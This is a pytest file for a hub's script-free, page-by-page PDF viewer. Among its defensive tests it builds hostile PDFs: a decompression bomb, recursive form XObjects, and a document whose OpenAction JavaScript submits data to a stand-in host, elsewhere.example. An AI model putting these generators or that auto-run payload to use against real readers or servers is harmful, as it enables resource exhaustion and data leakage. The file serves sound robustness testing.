"""A PDF is read page by page in a browser that opens none: the hub draws it. What a stranger wrote harms nobody."""

import time
import urllib.request
import zlib

import pytest
from browser import LANGUAGES, Visitor, chromium
from example import document, stream

PAGES = 3
TEXT = "Sentence {} of chapter {} about fidelity and flow."


@pytest.fixture(scope="module")
def browser():
    with chromium() as browser:
        yield browser


@pytest.fixture
def visit(hub, browser):
    visitors = []

    def visitor(**how) -> Visitor:
        visitors.append(Visitor(browser, hub.url, **how))
        return visitors[-1]

    yield visitor
    for left in visitors:
        left.leave()


def test_a_paper_is_read_page_by_page_without_scripts(hub, ada, browser, visit):
    ada.does(share, {"a paper.pdf": paper(browser).hex()})
    visitor = visit(scripts=False)
    page = visitor.open("/ada/papers/blob/main/a%20paper.pdf")

    def shown() -> str:
        picture = page.locator("figure img")
        assert picture.bounding_box()["height"] > picture.bounding_box()["width"] > 400
        return picture.get_attribute("alt")

    assert shown() == "Page 1 of 3 of a paper.pdf"
    visitor.press("a[rel=next] >> nth=0")
    assert shown() == "Page 2 of 3 of a paper.pdf"
    page.locator(".page-text summary").click()
    assert TEXT.format(7, 2) in page.locator(".page-text p").inner_text().replace("\n", " ")
    page.fill("#page-number", "3")
    visitor.press("form.inline button >> nth=0")
    assert shown() == "Page 3 of 3 of a paper.pdf" and page.url.endswith("?page=3#page")
    assert page.locator("a[rel=next]").count() == 0
    visitor.press("a[rel=prev] >> nth=1")
    assert shown() == "Page 2 of 3 of a paper.pdf"
    assert not [answer.url for answer in visitor.loaded if answer.headers.get("content-type") == "application/pdf"]


@pytest.mark.parametrize("language", LANGUAGES)
@pytest.mark.parametrize("width", ["desktop", "phone"])
def test_a_page_has_ink_and_is_for_everybody(hub, ada, browser, visit, language, width):
    ada.does(share, {"paper.pdf": paper(browser).hex()})
    visitor = visit(language=language, width=width)
    page = visitor.open("/ada/papers/blob/main/paper.pdf?page=2")
    says = {"en": "Page 2 of 3 of paper.pdf", "fr": "Page 2 sur 3 de paper.pdf"}[language]
    assert page.locator("figure img").get_attribute("alt") == says
    ink = page.locator("figure img").evaluate(INK)
    assert 0.01 < ink["dark"] < 0.3 and ink["red"] > 0.001, ink
    assert not visitor.axe() and not visitor.overflow()


def test_documents_that_harm_are_told_as_such_and_the_hub_goes_on(hub, ada, visit):
    files = {"bomb.pdf": bomb(), "maze.pdf": maze(), "cut.pdf": maze()[:200], "script.pdf": script()}
    ada.does(share, {name: content.hex() for name, content in files.items()})
    before = hub.memory()
    visitor = visit()
    for name in ("bomb.pdf", "maze.pdf"):
        start = time.monotonic()
        page = visitor.open(f"/ada/papers/blob/main/{name}")
        assert time.monotonic() - start < 30, name
        assert "took too much time or memory" in page.locator("p.note").inner_text(), name
        assert page.locator("figure img").count() == 0
    assert "could be drawn" in visitor.open("/ada/papers/blob/main/cut.pdf").locator("p.note").inner_text()
    page = visitor.open("/ada/papers/blob/main/script.pdf")
    assert page.locator("figure img").count() == 1
    visitor.unharmed("script.pdf")
    assert hub.memory() - before < 100 << 20
    with urllib.request.urlopen(f"{hub.url}/ada/papers/resolve/main/script.pdf") as answer:
        assert answer.headers["content-type"] == "application/octet-stream"
        assert answer.headers["content-disposition"].startswith("attachment")


def share(files: dict[str, str]):
    """Runs as a person: shares documents."""
    from huggingface_hub import CommitOperationAdd, HfApi

    api = HfApi()
    api.create_repo("ada/papers", exist_ok=True)
    adds = [CommitOperationAdd(name, bytes.fromhex(content)) for name, content in files.items()]
    api.create_commit("ada/papers", adds, commit_message="papers")


def paper(browser) -> bytes:
    """Three pages, as a browser prints them."""
    page = browser.new_page()
    chapters = (
        f'<section style="break-after: {"page" if chapter < PAGES else "auto"}"><h1>Chapter {chapter}</h1>'
        f'<p>{" ".join(TEXT.format(sentence, chapter) for sentence in range(40))}</p>'
        '<div style="width: 200px; height: 100px; background: red; print-color-adjust: exact"></div></section>'
        for chapter in range(1, PAGES + 1)
    )
    page.set_content(f'<html lang="en"><title>A paper</title>{"".join(chapters)}')
    printed = page.pdf(print_background=True)
    page.close()
    return printed


def bomb() -> bytes:
    """Some kilobytes that unpack to two gigabytes."""
    pack = zlib.compressobj(1)
    packed = b"".join(pack.compress(b" " * (1 << 20)) for _ in range(2048)) + pack.flush()
    return document([stream(zlib.compress(packed), b"/Filter[/FlateDecode/FlateDecode]")])


def maze() -> bytes:
    """Ten forms, each of which draws the next one ten times."""
    form = b"/Type/XObject/Subtype/Form/BBox[0 0 200 200]/Resources<</XObject<</X%d %d 0 R>>>>"
    forms = [stream(b"/X%d Do " % (number + 1) * 10, form % (number + 1, number + 5)) for number in range(10)]
    last = stream(b"0 0 90 90 re f", b"/Type/XObject/Subtype/Form/BBox[0 0 200 200]")
    return document([stream(b"/X0 Do")], [*forms, last])


def script() -> bytes:
    """A page with a program that a reader would run when the document is opened."""
    program = b"/OpenAction<</S/JavaScript/JS(app.alert\\('ran'\\); this.submitForm\\('http://elsewhere.example/'\\))>>"
    return document([stream(b"0 0 90 90 re f")], catalogue=program)


# How much of a picture is dark, and how much red.
INK = """image => {
  const canvas = document.createElement('canvas')
  canvas.width = image.naturalWidth
  canvas.height = image.naturalHeight
  const pen = canvas.getContext('2d')
  pen.drawImage(image, 0, 0)
  const points = pen.getImageData(0, 0, canvas.width, canvas.height).data
  let dark = 0, red = 0
  for (let at = 0; at < points.length; at += 4) {
    if (points[at] < 100 && points[at + 1] < 100) dark++
    if (points[at] > 200 && points[at + 1] < 50) red++
  }
  return {dark: 4 * dark / points.length, red: 4 * red / points.length}
}"""
